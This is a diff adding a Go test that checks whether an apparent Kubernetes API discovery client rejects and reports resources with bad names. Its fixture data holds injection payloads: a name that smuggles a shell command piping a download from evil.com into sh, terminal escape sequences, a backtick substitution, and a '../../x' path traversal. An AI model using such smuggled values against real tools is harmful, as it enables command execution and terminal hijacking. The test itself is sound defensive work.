@@ -253,3 +253,36 @@ func TestFetchRefusesEndlessGroupList(t *testing.T) {
 		t.Errorf("%d requests", len(s.requests))
 	}
 }
+
+// TestFetchLeavesOutWhatHasABadName: it is reported, and what else the server has is
+// there.
+func TestFetchLeavesOutWhatHasABadName(t *testing.T) {
+	const resources = `{"kind":"APIResourceList","resources":[{"name":"foos","kind":"Foo","verbs":["list"]},
+		{"name":"x;curl evil|sh","kind":"X"},{"name":"bars","kind":"B\u001b]0;"},{"name":"bazs","kind":"Baz","shortNames":["` + "`x`" + `"]},{"name":"quxs","kind":"Qux","verbs":["list\nwatch"]}]}`
+	s := &server{answers: map[string]answer{
+		"/api": {200, `{"kind":"APIVersions","versions":["v1"]}`}, "/api/v1": {200, `{"kind":"APIResourceList","resources":[]}`},
+		"/apis":          {200, `{"kind":"APIGroupList","groups":[{"name":"a.com","versions":[{"version":"v1"}]},{"name":"b\u001b.com","versions":[{"version":"v1"}]},{"name":"c.com","versions":[{"version":"../../x"}]}]}`},
+		"/apis/a.com/v1": {200, resources},
+	}}
+	api := mustFetch(t, s)
+	var got []string
+	for r := range api.All() {
+		got = append(got, r.String())
+	}
+	if diff := cmp.Diff([]string{"foos.v1.a.com"}, got); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+	broken := api.Broken()
+	if len(broken) != 3 {
+		t.Errorf("broken: %v", broken)
+	}
+	for name, err := range broken {
+		if !errors.Is(err, kube.ErrBadName) || strings.ContainsAny(name+err.Error(), "\x1b\n") {
+			t.Errorf("%q: %q", name, err)
+		}
+	}
+	slices.Sort(s.requests)
+	if diff := cmp.Diff([]string{"/api", "/api/v1", "/apis", "/apis/a.com/v1"}, s.requests); diff != "" {
+		t.Errorf("requests (-want +got):\n%s", diff)
+	}
+}
